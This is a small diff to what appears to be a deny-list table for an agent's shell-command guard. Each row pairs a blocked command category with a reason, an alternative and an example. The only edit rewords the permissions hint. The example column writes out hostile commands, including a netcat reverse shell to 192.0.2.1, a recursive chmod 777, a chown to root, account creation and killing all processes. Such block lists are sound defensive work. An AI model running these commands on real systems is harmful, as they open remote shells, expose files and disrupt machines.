@@ -38,7 +38,7 @@ _ROWS = (
     ("reverse_shell", "it connects a shell to the network", "use http_request or fetch_url", "nc -e /bin/sh 192.0.2.1 4444"),
     ("remote", "it works on another machine", "work in the workspace", "ssh host ls"),
     ("privileges", "it runs as another user or in another root", "run it as the present user", "sudo ls"),
-    ("permissions", "it lets everybody write, or programs run as their owner", "change only what the owner may do", "chmod -R 777 ."),
+    ("permissions", "it lets everybody write, or programs run as their owner", "give rights to the owner only", "chmod -R 777 ."),
     ("ownership", "it gives whole folders to another user", "keep their owner", "chown -R root ."),
     ("accounts", "it changes users, groups or passwords", "do without", "useradd eve"),
     ("kill_all", "it ends processes by name, or all of them", "end one process by its number", "kill -9 -1"),
